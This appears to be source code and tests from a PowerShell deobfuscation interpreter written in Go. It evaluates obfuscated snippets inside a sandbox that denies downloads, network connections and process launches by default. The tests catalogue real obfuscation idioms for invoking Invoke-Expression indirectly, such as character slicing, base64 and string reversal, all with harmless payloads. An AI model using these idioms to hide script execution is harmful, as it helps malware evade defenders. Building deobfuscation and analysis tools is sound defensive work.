func TestToStringToNumberProperties(t *testing.T) {
	roundTrip := func(n int64) bool {
		v, err := ToNumber(ToString(n))
		return err == nil && v == n
	}
	if err := quick.Check(roundTrip, nil); err != nil {
		t.Error(err)
	}
	boolTotal := func(s string) bool {
		// ToBool is total for strings.
		_ = ToBool(s)
		return true
	}
	if err := quick.Check(boolTotal, nil); err != nil {
		t.Error(err)
	}
}

// TestFormatOperatorProperty: rendering each index in order
// reconstructs the concatenation.
func TestFormatOperatorProperty(t *testing.T) {
	in := New(Options{})
	f := func(a, b, c string) bool {
		args := []any{a, b, c}
		out, err := in.formatOperator("{0}{1}{2}", args)
		return err == nil && out == a+b+c
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestHashtableSemantics(t *testing.T) {
	tests := []struct{ src, want string }{
		{"$h=@{}; $h['A']=1; $h['a']", "1"}, // case-insensitive keys
		{"$h=@{a=1;b=2}; $h.Count", "2"},
		{"$h=@{a=1;b=2}; ($h.Keys | sort-object) -join ''", "ab"},
		{"$h=@{a=1}; $h.ContainsKey('A')", "True"},
		{"$h=@{a=1}; $h.Remove('a'); $h.Count", "0"},
		{"$h=@{a=1}+@{b=2}; $h.Count", "2"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestArraySemantics(t *testing.T) {
	tests := []struct{ src, want string }{
		{"$a=@(); $a.Count", "0"},
		{"$a=@(1,2,3); $a.Length", "3"},
		{"$a=1,2,3; [array]::Reverse($a); $a -join ''", "321"},
		{"(1,2,3).Contains(2)", "True"},
		{"('a','b').IndexOf('b')", "1"},
		{"((1,2)*2) -join ''", "1212"},
		{"@(5) -is [array]", "True"},
		{"(,1).Count", "1"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}
