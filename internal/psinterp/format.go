package psinterp

import (
	"fmt"
	"strconv"
	"strings"
)

// formatOperator implements the -f operator with the subset of .NET
// composite formatting used in practice: {index[,alignment][:format]}
// with numeric format specifiers D, X, x, N, F and custom 0-padding.
func (in *Interp) formatOperator(format string, args []any) (any, error) {
	var sb strings.Builder
	i := 0
	for i < len(format) {
		c := format[i]
		switch c {
		case '{':
			if i+1 < len(format) && format[i+1] == '{' {
				sb.WriteByte('{')
				i += 2
				continue
			}
			end := strings.IndexByte(format[i:], '}')
			if end < 0 {
				return nil, fmt.Errorf("psinterp: malformed format string %q", format)
			}
			spec := format[i+1 : i+end]
			rendered, err := renderFormatItem(spec, args)
			if err != nil {
				return nil, err
			}
			sb.WriteString(rendered)
			i += end + 1
		case '}':
			if i+1 < len(format) && format[i+1] == '}' {
				sb.WriteByte('}')
				i += 2
				continue
			}
			sb.WriteByte('}')
			i++
		default:
			sb.WriteByte(c)
			i++
		}
		if sb.Len() > in.opts.MaxStringLen {
			return nil, ErrBudget
		}
	}
	if err := in.charge(sb.Len()); err != nil {
		return nil, err
	}
	return sb.String(), nil
}

// renderFormatItem renders one {index[,alignment][:format]} item.
func renderFormatItem(spec string, args []any) (string, error) {
	idxPart := spec
	alignPart := ""
	fmtPart := ""
	if colon := strings.IndexByte(spec, ':'); colon >= 0 {
		fmtPart = spec[colon+1:]
		idxPart = spec[:colon]
	}
	if comma := strings.IndexByte(idxPart, ','); comma >= 0 {
		alignPart = idxPart[comma+1:]
		idxPart = idxPart[:comma]
	}
	idx, err := strconv.Atoi(strings.TrimSpace(idxPart))
	if err != nil {
		return "", fmt.Errorf("psinterp: bad format index %q", idxPart)
	}
	if idx < 0 || idx >= len(args) {
		return "", fmt.Errorf("psinterp: format index %d out of range (%d args)", idx, len(args))
	}
	s, err := applyFormatSpec(args[idx], fmtPart)
	if err != nil {
		return "", err
	}
	if alignPart != "" {
		width, err := strconv.Atoi(strings.TrimSpace(alignPart))
		if err == nil {
			if width > 0 && len(s) < width {
				s = strings.Repeat(" ", width-len(s)) + s
			} else if width < 0 && len(s) < -width {
				s += strings.Repeat(" ", -width-len(s))
			}
		}
	}
	return s, nil
}

func applyFormatSpec(v any, spec string) (string, error) {
	if spec == "" {
		return ToString(v), nil
	}
	kind := spec[0]
	width := 0
	if len(spec) > 1 {
		if w, err := strconv.Atoi(spec[1:]); err == nil {
			width = w
		}
	}
	switch kind {
	case 'X', 'x':
		n, err := ToInt(v)
		if err != nil {
			return "", err
		}
		s := strconv.FormatInt(n, 16)
		if kind == 'X' {
			s = strings.ToUpper(s)
		}
		return zeroPad(s, width), nil
	case 'D', 'd':
		n, err := ToInt(v)
		if err != nil {
			return "", err
		}
		return zeroPad(strconv.FormatInt(n, 10), width), nil
	case 'F', 'f':
		n, err := ToNumber(v)
		if err != nil {
			return "", err
		}
		if width == 0 && len(spec) == 1 {
			width = 2
		}
		return strconv.FormatFloat(toFloat(n), 'f', width, 64), nil
	case 'N', 'n':
		n, err := ToNumber(v)
		if err != nil {
			return "", err
		}
		decimals := 2
		if len(spec) > 1 {
			decimals = width
		}
		return groupThousands(strconv.FormatFloat(toFloat(n), 'f', decimals, 64)), nil
	case '0':
		// Custom zero-padding pattern like 00 or 000.
		n, err := ToInt(v)
		if err != nil {
			return "", err
		}
		return zeroPad(strconv.FormatInt(n, 10), len(spec)), nil
	default:
		return ToString(v), nil
	}
}

func zeroPad(s string, width int) string {
	neg := strings.HasPrefix(s, "-")
	if neg {
		s = s[1:]
	}
	for len(s) < width {
		s = "0" + s
	}
	if neg {
		return "-" + s
	}
	return s
}

func groupThousands(s string) string {
	intPart := s
	frac := ""
	if dot := strings.IndexByte(s, '.'); dot >= 0 {
		intPart, frac = s[:dot], s[dot:]
	}
	neg := strings.HasPrefix(intPart, "-")
	if neg {
		intPart = intPart[1:]
	}
	var groups []string
	for len(intPart) > 3 {
		groups = append([]string{intPart[len(intPart)-3:]}, groups...)
		intPart = intPart[:len(intPart)-3]
	}
	groups = append([]string{intPart}, groups[0:]...)
	out := strings.Join(groups, ",") + frac
	if neg {
		return "-" + out
	}
	return out
}
