package psinterp

import (
	"strings"
	"testing"
)

// TestInvokeObfuscationIdioms exercises the real-world invocation
// tricks catalogued by Invoke-Obfuscation that obfuscated samples use
// to reach Invoke-Expression and rebuild strings.
func TestInvokeObfuscationIdioms(t *testing.T) {
	tests := []struct{ src, want string }{
		// $PSHOME character-picking (the paper's §III-B4 example).
		{". ($pshome[4]+$pshome[30]+'x') ('wr'+'ite-output idiom1')", "idiom1"},
		// $env:ComSpec slicing.
		{"('write-output idiom2') |& ($env:comspec[4,24,25] -join '')", "idiom2"},
		// Get-Command wildcard discovery.
		{"&(gcm *ke-Exp*) 'write-output idiom3'", "idiom3"},
		// Get-Variable name slicing.
		{"&((gv '*mdr*').name[3,11,2] -join '') 'write-output idiom4'", "idiom4"},
		// Get-Alias definition.
		{"&((gal iex).Definition) 'write-output idiom5'", "idiom5"},
		// ExecutionContext script-block factory.
		{"($executioncontext.invokecommand.newscriptblock('write-output idiom6')).Invoke() -join ''", "idiom6"},
		// ExecutionContext InvokeScript.
		{"$executioncontext.invokecommand.invokescript('write-output idiom7')", "idiom7"},
		// Env drive item value.
		{"&((get-item env:comspec).value[4,24,25] -join '') 'write-output idiom8'", "idiom8"},
		// String method chain assembling the command name.
		{"&('XEI'[2..0] -join '') 'write-output idiom9'", "idiom9"},
		// Format operator assembling the command.
		{"&('{1}{0}' -f 'ex','i') 'write-output idiom10'", "idiom10"},
	}
	for _, tt := range tests {
		in := New(Options{})
		out, err := in.EvalSnippet(tt.src)
		if err != nil {
			t.Errorf("eval(%q): %v", tt.src, err)
			continue
		}
		got := ToString(Unwrap(out))
		if !strings.Contains(got, tt.want) {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

// TestDeepObfuscationChains layers several recovery mechanisms the way
// wild droppers do.
func TestDeepObfuscationChains(t *testing.T) {
	tests := []struct{ src, want string }{
		// split -> char -> join -> iex.
		{"iex (('119,114,105,116,101,45,111,117,116,112,117,116,32,99,104,97,105,110,49' -split ',' | % { [char][int]$_ }) -join '')", "chain1"},
		// Base64 of UTF16 inside a format reorder.
		{"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(('{0}{1}' -f 'dwByAGkAdABlAC0AbwB1AHQAcAB1AHQA', 'IABjAGgAYQBpAG4AMgA='))))", "chain2"},
		// Reverse via descending index range.
		{"iex (-join ('3niahc tuptuo-etirw'[18..0]))", "chain3"},
	}
	for _, tt := range tests {
		in := New(Options{})
		out, err := in.EvalSnippet(tt.src)
		if err != nil {
			t.Errorf("eval(%q): %v", tt.src, err)
			continue
		}
		if got := ToString(Unwrap(out)); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}
