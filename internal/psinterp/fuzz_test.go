package psinterp

import (
	"context"
	"errors"
	"testing"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
)

// FuzzEvalSnippet drives the interpreter over arbitrary inputs inside a
// tight execution envelope. The invariant is the envelope contract
// itself: no panics escape (the fuzzer fails the run on any panic), and
// every error is nil or within the known error surface.
func FuzzEvalSnippet(f *testing.F) {
	seeds := []string{
		"write-host hello",
		"$s = 'a'; while ($s.Length -lt 100) { $s = $s + $s }; $s.Length",
		"$x = 'a' * 100000000",
		"while ($true) { $i = $i + 1 }",
		"function f { f }; f",
		"iex ('write'+'-host hi')",
		"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABpAA=='))",
		"$(1..100 | % { $_ * 2 }) -join ','",
		"try { throw 'x' } catch { $_ }",
		"'' .padleft(99999999)",
		"[string]::new('a', 2147483647)",
		"@{a=1;b=2}.Keys",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 4096 {
			return
		}
		ctx, cancel := context.WithTimeout(context.Background(), time.Second)
		defer cancel()
		in := New(Options{
			MaxSteps:      100_000,
			MaxAllocBytes: 4 << 20,
			Ctx:           ctx,
		})
		start := time.Now()
		_, err := in.EvalSnippet(src)
		if elapsed := time.Since(start); elapsed > 2*time.Second {
			t.Fatalf("took %v, over 2x the 1s deadline for %q", elapsed, src)
		}
		// Arbitrary evaluation errors (unknown variable, bad syntax,
		// type mismatch) are fine; but an envelope failure must carry
		// a taxonomy sentinel, never a bare string — and a panic would
		// have failed the run outright were it not converted to a
		// *limits.PanicError by the recover barrier.
		if errors.Is(err, limits.ErrPanic) {
			var pe *limits.PanicError
			if !errors.As(err, &pe) {
				t.Fatalf("ErrPanic without PanicError detail: %v", err)
			}
		}
	})
}
