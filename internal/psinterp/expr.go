package psinterp

import (
	"fmt"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
)

// maxExprDepth bounds AST recursion inside one expression evaluation so
// a deeply nested tree (thousands of parens/unary operators) cannot
// exhaust the goroutine stack. The parser enforces its own, larger
// nesting limit; this guard is the interpreter's independent backstop.
const maxExprDepth = 10_000

func (in *Interp) evalExpr(node psast.Node, sc *scope) (any, error) {
	if err := in.step(); err != nil {
		return nil, err
	}
	in.exprDepth++
	defer func() { in.exprDepth-- }()
	if in.exprDepth > maxExprDepth {
		return nil, ErrBudget
	}
	switch n := node.(type) {
	case *psast.ConstantExpression:
		return n.Value, nil
	case *psast.StringConstant:
		return n.Value, nil
	case *psast.ExpandableString:
		return in.evalExpandable(n, sc)
	case *psast.VariableExpression:
		return in.lookupVariable(n.Name, sc)
	case *psast.BinaryExpression:
		return in.evalBinaryExpr(n, sc)
	case *psast.UnaryExpression:
		return in.evalUnary(n, sc)
	case *psast.ConvertExpression:
		v, err := in.evalExpr(n.Operand, sc)
		if err != nil {
			return nil, err
		}
		return in.castValue(n.TypeName, v)
	case *psast.TypeExpression:
		return TypeValue{Name: n.TypeName}, nil
	case *psast.ArrayLiteral:
		out := make([]any, 0, len(n.Elements))
		for _, el := range n.Elements {
			v, err := in.evalExpr(el, sc)
			if err != nil {
				return nil, err
			}
			out = append(out, v)
		}
		return out, nil
	case *psast.ArrayExpression:
		vals, err := in.evalStatements(n.Statements, sc)
		if err != nil {
			return nil, err
		}
		if vals == nil {
			vals = []any{}
		}
		return vals, nil
	case *psast.SubExpression:
		vals, err := in.evalStatements(n.Statements, sc)
		if err != nil {
			return nil, err
		}
		return Unwrap(vals), nil
	case *psast.ParenExpression:
		switch inner := n.Pipeline.(type) {
		case *psast.Assignment:
			return in.evalAssignment(inner, sc)
		case *psast.Pipeline:
			// A single parenthesized expression keeps its value intact
			// (pipeline enumeration would collapse wrappers like the
			// (,$bytes) single-argument idiom).
			if len(inner.Elements) == 1 {
				if ce, ok := inner.Elements[0].(*psast.CommandExpression); ok {
					return in.evalExpr(ce.Expression, sc)
				}
			}
			vals, err := in.evalStatement(n.Pipeline, sc)
			if err != nil {
				return nil, err
			}
			return Unwrap(vals), nil
		default:
			vals, err := in.evalStatement(n.Pipeline, sc)
			if err != nil {
				return nil, err
			}
			return Unwrap(vals), nil
		}
	case *psast.ScriptBlockExpression:
		return in.scriptBlockValue(n), nil
	case *psast.MemberExpression:
		return in.evalMemberAccess(n, sc)
	case *psast.InvokeMemberExpression:
		return in.evalInvokeMember(n, sc)
	case *psast.IndexExpression:
		return in.evalIndex(n, sc)
	case *psast.Hashtable:
		h := NewHashtable()
		for _, e := range n.Entries {
			key, err := in.evalExpr(e.Key, sc)
			if err != nil {
				return nil, err
			}
			vals, err := in.evalStatement(e.Value, sc)
			if err != nil {
				return nil, err
			}
			h.Set(ToString(key), Unwrap(vals))
		}
		return h, nil
	case *psast.Pipeline:
		vals, err := in.evalPipeline(n, sc)
		if err != nil {
			return nil, err
		}
		return Unwrap(vals), nil
	case *psast.CommandExpression:
		return in.evalExpr(n.Expression, sc)
	}
	return nil, fmt.Errorf("%w: expression %s", ErrUnsupported, node.Kind())
}

func (in *Interp) scriptBlockValue(n *psast.ScriptBlockExpression) *ScriptBlockValue {
	return &ScriptBlockValue{Text: n.Source, Body: n.Body}
}

func (in *Interp) evalExpandable(n *psast.ExpandableString, sc *scope) (any, error) {
	var sb strings.Builder
	for _, part := range n.Parts {
		switch p := part.(type) {
		case *psast.StringConstant:
			sb.WriteString(p.Value)
		case *psast.VariableExpression:
			v, err := in.lookupVariable(p.Name, sc)
			if err != nil {
				return nil, err
			}
			sb.WriteString(ToString(v))
		case *psast.SubExpression:
			vals, err := in.evalStatements(p.Statements, sc)
			if err != nil {
				return nil, err
			}
			sb.WriteString(ToString(Unwrap(vals)))
		default:
			return nil, fmt.Errorf("%w: expandable part %s", ErrUnsupported, part.Kind())
		}
		if sb.Len() > in.opts.MaxStringLen {
			return nil, ErrBudget
		}
	}
	if err := in.charge(sb.Len()); err != nil {
		return nil, err
	}
	return sb.String(), nil
}

func (in *Interp) lookupVariable(name string, sc *scope) (any, error) {
	n := strings.ToLower(name)
	switch n {
	case "true":
		return true, nil
	case "false":
		return false, nil
	case "null":
		return nil, nil
	}
	if strings.HasPrefix(n, "env:") {
		// Environment state lives outside the preloaded-variable
		// fingerprint, so any read of it disqualifies the run from the
		// evaluation cache.
		in.markImpure("env read: " + n)
		key := strings.TrimPrefix(n, "env:")
		if v, ok := in.env[key]; ok {
			return v, nil
		}
		if in.opts.StrictVars {
			return nil, &UnknownVariableError{Name: name}
		}
		return "", nil
	}
	n = normalizeVarName(n)
	if v, ok := sc.get(n); ok {
		in.noteVarRead(n)
		return v, nil
	}
	if v, ok := in.automaticVariable(n); ok {
		return v, nil
	}
	if in.opts.StrictVars {
		return nil, &UnknownVariableError{Name: name}
	}
	// A lenient read of an undefined variable depends on the *absence*
	// of context, which the read-set fingerprint cannot express.
	in.markImpure("undefined variable read: $" + n)
	return nil, nil
}

func (in *Interp) evalBinaryExpr(n *psast.BinaryExpression, sc *scope) (any, error) {
	switch n.Operator {
	case "-and":
		l, err := in.evalExpr(n.Left, sc)
		if err != nil {
			return nil, err
		}
		if !ToBool(l) {
			return false, nil
		}
		r, err := in.evalExpr(n.Right, sc)
		if err != nil {
			return nil, err
		}
		return ToBool(r), nil
	case "-or":
		l, err := in.evalExpr(n.Left, sc)
		if err != nil {
			return nil, err
		}
		if ToBool(l) {
			return true, nil
		}
		r, err := in.evalExpr(n.Right, sc)
		if err != nil {
			return nil, err
		}
		return ToBool(r), nil
	}
	l, err := in.evalExpr(n.Left, sc)
	if err != nil {
		return nil, err
	}
	r, err := in.evalExpr(n.Right, sc)
	if err != nil {
		return nil, err
	}
	v, err := in.evalBinaryOp(n.Operator, l, r)
	if err != nil {
		return nil, err
	}
	// -match populates $matches like PowerShell.
	if op := strings.TrimPrefix(strings.TrimPrefix(strings.TrimPrefix(n.Operator, "-"), "i"), "c"); op == "match" && in.lastMatches != nil {
		sc.set("matches", in.lastMatches)
	}
	return v, nil
}

func (in *Interp) evalUnary(n *psast.UnaryExpression, sc *scope) (any, error) {
	if n.Operator == "++" || n.Operator == "--" {
		v, err := in.evalExpr(n.Operand, sc)
		if err != nil {
			return nil, err
		}
		num, err := ToNumber(v)
		if err != nil {
			return nil, err
		}
		delta := int64(1)
		if n.Operator == "--" {
			delta = -1
		}
		var updated any
		switch x := num.(type) {
		case int64:
			updated = x + delta
		case float64:
			updated = x + float64(delta)
		}
		if err := in.assignTo(n.Operand, updated, sc); err != nil {
			return nil, err
		}
		return nil, nil
	}
	v, err := in.evalExpr(n.Operand, sc)
	if err != nil {
		return nil, err
	}
	switch n.Operator {
	case "!", "-not":
		return !ToBool(v), nil
	case "-":
		num, err := ToNumber(v)
		if err != nil {
			return nil, err
		}
		switch x := num.(type) {
		case int64:
			return -x, nil
		case float64:
			return -x, nil
		}
	case "+":
		return ToNumber(v)
	case "-bnot":
		i, err := ToInt(v)
		if err != nil {
			return nil, err
		}
		return ^i, nil
	case "-join":
		parts := ToArray(v)
		var sb strings.Builder
		for _, p := range parts {
			sb.WriteString(ToString(p))
			if sb.Len() > in.opts.MaxStringLen {
				return nil, ErrBudget
			}
		}
		if err := in.charge(sb.Len()); err != nil {
			return nil, err
		}
		return sb.String(), nil
	case "-split":
		return splitWhitespace(ToString(v)), nil
	}
	return nil, fmt.Errorf("%w: unary %q", ErrUnsupported, n.Operator)
}

func splitWhitespace(s string) []any {
	fields := strings.Fields(s)
	out := make([]any, len(fields))
	for i, f := range fields {
		out[i] = f
	}
	return out
}

func (in *Interp) evalIndex(n *psast.IndexExpression, sc *scope) (any, error) {
	target, err := in.evalExpr(n.Target, sc)
	if err != nil {
		return nil, err
	}
	index, err := in.evalExpr(n.Index, sc)
	if err != nil {
		return nil, err
	}
	return indexValue(target, index)
}

// indexValue implements target[index] for strings, arrays, bytes and
// hashtables, with negative indices and index arrays.
func indexValue(target, index any) (any, error) {
	if h, ok := target.(*Hashtable); ok {
		v, _ := h.Get(ToString(index))
		return v, nil
	}
	if idxArr, ok := index.([]any); ok {
		// Index arrays over strings are the dominant character-
		// reconstruction idiom ($s[4,30,12] -join ''). Decode the
		// string to runes ONCE for the whole list: re-deriving it per
		// element made multi-index O(len(s) * len(idx)) and was the
		// single hottest call in corpus profiles.
		if s, isStr := target.(string); isStr {
			target = []rune(s)
		}
		out := make([]any, 0, len(idxArr))
		for _, ix := range idxArr {
			v, err := indexValue(target, ix)
			if err != nil {
				return nil, err
			}
			out = append(out, v)
		}
		return out, nil
	}
	i, err := ToInt(index)
	if err != nil {
		return nil, err
	}
	at := func(length int) (int, bool) {
		n := int(i)
		if n < 0 {
			n += length
		}
		return n, n >= 0 && n < length
	}
	switch t := target.(type) {
	case string:
		runes := []rune(t)
		if n, ok := at(len(runes)); ok {
			return Char(runes[n]), nil
		}
		return nil, nil
	case []rune:
		// Internal fast path: a string target pre-decoded once by the
		// index-array branch above. Never a user-visible value type.
		if n, ok := at(len(t)); ok {
			return Char(t[n]), nil
		}
		return nil, nil
	case []any:
		if n, ok := at(len(t)); ok {
			return t[n], nil
		}
		return nil, nil
	case Bytes:
		if n, ok := at(len(t)); ok {
			return int64(t[n]), nil
		}
		return nil, nil
	case Char:
		if i == 0 {
			return t, nil
		}
		return nil, nil
	case nil:
		return nil, nil
	}
	return nil, fmt.Errorf("%w: indexing %T", ErrUnsupported, target)
}

// memberName evaluates the member-name node of a member access.
func (in *Interp) memberName(member psast.Node, sc *scope) (string, error) {
	switch m := member.(type) {
	case *psast.StringConstant:
		return m.Value, nil
	default:
		v, err := in.evalExpr(member, sc)
		if err != nil {
			return "", err
		}
		return ToString(v), nil
	}
}

func (in *Interp) evalMemberAccess(n *psast.MemberExpression, sc *scope) (any, error) {
	name, err := in.memberName(n.Member, sc)
	if err != nil {
		return nil, err
	}
	if n.Static {
		typeName := ""
		if te, ok := n.Target.(*psast.TypeExpression); ok {
			typeName = te.TypeName
		} else {
			v, err := in.evalExpr(n.Target, sc)
			if err != nil {
				return nil, err
			}
			tv, ok := v.(TypeValue)
			if !ok {
				return nil, fmt.Errorf("%w: :: on %T", ErrUnsupported, v)
			}
			typeName = tv.Name
		}
		return in.staticProperty(typeName, name)
	}
	target, err := in.evalExpr(n.Target, sc)
	if err != nil {
		return nil, err
	}
	return in.getProperty(target, name)
}

func (in *Interp) evalInvokeMember(n *psast.InvokeMemberExpression, sc *scope) (any, error) {
	name, err := in.memberName(n.Member, sc)
	if err != nil {
		return nil, err
	}
	args := make([]any, 0, len(n.Args))
	for _, a := range n.Args {
		v, err := in.evalExpr(a, sc)
		if err != nil {
			return nil, err
		}
		args = append(args, v)
	}
	if n.Static {
		typeName := ""
		if te, ok := n.Target.(*psast.TypeExpression); ok {
			typeName = te.TypeName
		} else {
			v, err := in.evalExpr(n.Target, sc)
			if err != nil {
				return nil, err
			}
			tv, ok := v.(TypeValue)
			if !ok {
				return nil, fmt.Errorf("%w: :: on %T", ErrUnsupported, v)
			}
			typeName = tv.Name
		}
		return in.staticMethod(typeName, name, args)
	}
	target, err := in.evalExpr(n.Target, sc)
	if err != nil {
		return nil, err
	}
	return in.invokeMethod(target, name, args, sc)
}
