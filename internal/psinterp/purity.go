package psinterp

import "sort"

// Purity reports whether an evaluation run was pure — deterministic and
// free of observable side effects — together with the exact set of
// preloaded variables it read. The deobfuscator's evaluation cache
// (internal/pipeline.EvalCache) uses the report to decide whether a
// run's output may be replayed for an identical (snippet, read-set)
// pair: only pure runs are cacheable, and the ReadVars list is the
// environment fingerprint half of the cache key.
//
// A run is impure when any of the following happened:
//
//   - a command outside the pure-static whitelist was dispatched
//     (anything that could touch the host, the simulated filesystem,
//     process state, or the console);
//   - a nondeterminism source executed (Get-Random, Get-Date,
//     [guid]::NewGuid, [datetime]::Now, [IO.Path]::GetRandomFileName,
//     System.Random.Next, wildcard Get-Variable enumeration);
//   - the simulated environment was read or written ($env:, [System.
//     Environment] accessors, Get-Item env:), because environment state
//     is external to the preloaded-variable fingerprint;
//   - console output was produced (a replay would not reproduce it);
//   - an IEX/engine-script hook observed code (a replay would not
//     re-fire the hook);
//   - a variable that was neither preloaded nor script-defined was read
//     leniently (the result depends on the *absence* of context the
//     fingerprint cannot express).
type Purity struct {
	// Pure is true when no impurity source executed.
	Pure bool
	// Reason names the first impurity cause, empty when pure.
	Reason string
	// ReadVars lists, sorted, the normalized names of preloaded
	// variables the run read before (possibly) overwriting them.
	ReadVars []string
}

// Purity returns the purity report for everything evaluated so far on
// this interpreter instance.
func (in *Interp) Purity() Purity {
	p := Purity{Pure: in.impureReason == "", Reason: in.impureReason}
	if len(in.readPreloaded) > 0 {
		p.ReadVars = make([]string, 0, len(in.readPreloaded))
		for name := range in.readPreloaded {
			p.ReadVars = append(p.ReadVars, name)
		}
		sort.Strings(p.ReadVars)
	}
	return p
}

// CopyValue returns a deep, unaliased copy of an evaluation output
// value, reporting false for values an evaluation cache must not hold.
// Only immutable scalars and recursively copyable containers qualify;
// reference types whose identity or mutability is observable
// (Hashtable, Object, ScriptBlockValue, SecureString, encodings) are
// rejected so a cached replay can never alias interpreter state.
func CopyValue(v any) (any, bool) {
	switch x := v.(type) {
	case nil:
		return nil, true
	case string, bool, int, int64, float64, Char, TypeValue:
		return x, true
	case Bytes:
		return Bytes(append([]byte(nil), x...)), true
	case []any:
		out := make([]any, len(x))
		for i, e := range x {
			c, ok := CopyValue(e)
			if !ok {
				return nil, false
			}
			out[i] = c
		}
		return out, true
	default:
		return nil, false
	}
}

// ValueSize estimates the retained bytes of an output value for cache
// byte-budget accounting. It intentionally over-counts small values
// (boxing overhead) so the budget errs toward evicting sooner.
func ValueSize(v any) int {
	switch x := v.(type) {
	case string:
		return len(x) + 16
	case Bytes:
		return len(x) + 24
	case []any:
		n := 24
		for _, e := range x {
			n += ValueSize(e)
		}
		return n
	default:
		return 16
	}
}

// markImpure records the first impurity cause. Later causes are
// ignored: one is enough to disqualify the run from caching, and the
// first is the most useful for diagnostics.
func (in *Interp) markImpure(reason string) {
	if in.impureReason == "" {
		in.impureReason = reason
	}
}

// noteVarRead records a successful read of a preloaded variable. Reads
// of script-defined variables are not recorded: their values derive
// from the snippet text, which is already part of the cache key.
func (in *Interp) noteVarRead(name string) {
	if !in.preloaded[name] {
		return
	}
	if in.readPreloaded == nil {
		in.readPreloaded = make(map[string]bool, 4)
	}
	in.readPreloaded[name] = true
}

// pureBuiltins whitelists the builtin commands whose implementations
// are deterministic, host-free and console-free. Dispatching any other
// command marks the run impure. The set intentionally mirrors (and
// slightly extends) the deobfuscator's safe-piece command list: those
// are the commands that reach evalText in practice.
var pureBuiltins = map[string]bool{
	"foreach-object":           true,
	"where-object":             true,
	"select-object":            true,
	"sort-object":              true,
	"measure-object":           true,
	"get-unique":               true,
	"write-output":             true,
	"write-error":              true, // swallowed: deterministic no-op
	"write-warning":            true, // swallowed
	"write-verbose":            true, // swallowed
	"write-debug":              true, // swallowed
	"out-null":                 true,
	"out-string":               true,
	"new-object":               true, // constructors are pure; impure members mark on use
	"get-variable":             true, // reads tracked; wildcard enumeration marks impure
	"get-command":              true, // static table
	"get-alias":                true, // static table
	"invoke-command":           true, // body evaluates through this interpreter
	"invoke-expression":        true, // body evaluates through this interpreter
	"convertto-securestring":   true, // deterministic derived-IV encryption
	"convertfrom-securestring": true,
	"split-path":               true,
	"join-path":                true,
	"select-string":            true,
	"get-location":             true, // fixed simulated path
	"get-culture":              true, // fixed simulated culture
	"get-host":                 true, // fixed simulated host info
	"get-executionpolicy":      true, // fixed value
	"tee-object":               true, // aliased to write-output here
	"group-object":             true, // aliased to write-output here
}

// impurityHost wraps a Host so that every side-effect request marks the
// interpreter impure before being forwarded. Even denied requests mark:
// the *attempt* proves the snippet wanted external state, and a replay
// under a permissive host would behave differently.
type impurityHost struct {
	in   *Interp
	next Host
}

var _ Host = impurityHost{}

func (h impurityHost) WriteHost(text string) {
	h.in.markImpure("host: write-host")
	h.next.WriteHost(text)
}

func (h impurityHost) DownloadString(url string) (string, error) {
	h.in.markImpure("host: download")
	return h.next.DownloadString(url)
}

func (h impurityHost) DownloadData(url string) (Bytes, error) {
	h.in.markImpure("host: download")
	return h.next.DownloadData(url)
}

func (h impurityHost) DownloadFile(url, path string) error {
	h.in.markImpure("host: download")
	return h.next.DownloadFile(url, path)
}

func (h impurityHost) WebRequest(method, url string) (string, error) {
	h.in.markImpure("host: web request")
	return h.next.WebRequest(method, url)
}

func (h impurityHost) TCPConnect(host string, port int64) error {
	h.in.markImpure("host: tcp")
	return h.next.TCPConnect(host, port)
}

func (h impurityHost) DNSResolve(host string) error {
	h.in.markImpure("host: dns")
	return h.next.DNSResolve(host)
}

func (h impurityHost) StartProcess(name string, args []string) error {
	h.in.markImpure("host: process")
	return h.next.StartProcess(name, args)
}

func (h impurityHost) WriteFile(path, content string) error {
	h.in.markImpure("host: file write")
	return h.next.WriteFile(path, content)
}

func (h impurityHost) RemoveItem(path string) error {
	h.in.markImpure("host: file remove")
	return h.next.RemoveItem(path)
}

func (h impurityHost) Sleep(seconds float64) {
	h.in.markImpure("host: sleep")
	h.next.Sleep(seconds)
}
