package psinterp

// Host mediates every side effect the interpreter can perform. The
// deobfuscator uses DenyHost so recovery code cannot touch the outside
// world; the behavioural sandbox supplies a recording host that logs
// network events and returns canned data (the TianQiong-sandbox
// substitute described in DESIGN.md).
type Host interface {
	// WriteHost receives console output (Write-Host).
	WriteHost(text string)
	// DownloadString fetches a URL body as text.
	DownloadString(url string) (string, error)
	// DownloadData fetches a URL body as bytes.
	DownloadData(url string) (Bytes, error)
	// DownloadFile fetches a URL into a path.
	DownloadFile(url, path string) error
	// WebRequest performs Invoke-WebRequest/Invoke-RestMethod.
	WebRequest(method, url string) (string, error)
	// TCPConnect opens a TCP connection (New-Object Net.Sockets.TcpClient).
	TCPConnect(host string, port int64) error
	// DNSResolve resolves a host name.
	DNSResolve(host string) error
	// StartProcess launches an external process.
	StartProcess(name string, args []string) error
	// WriteFile persists content to a path (Out-File, Set-Content).
	WriteFile(path, content string) error
	// RemoveItem deletes a path.
	RemoveItem(path string) error
	// Sleep pauses execution (Start-Sleep); hosts may cap, simulate or
	// ignore the delay.
	Sleep(seconds float64)
}

// DenyHost rejects every side effect with ErrSideEffect and swallows
// console output. It is the interpreter's default host.
type DenyHost struct{}

var _ Host = DenyHost{}

// WriteHost implements Host.
func (DenyHost) WriteHost(string) {}

// DownloadString implements Host.
func (DenyHost) DownloadString(string) (string, error) { return "", ErrSideEffect }

// DownloadData implements Host.
func (DenyHost) DownloadData(string) (Bytes, error) { return nil, ErrSideEffect }

// DownloadFile implements Host.
func (DenyHost) DownloadFile(string, string) error { return ErrSideEffect }

// WebRequest implements Host.
func (DenyHost) WebRequest(string, string) (string, error) { return "", ErrSideEffect }

// TCPConnect implements Host.
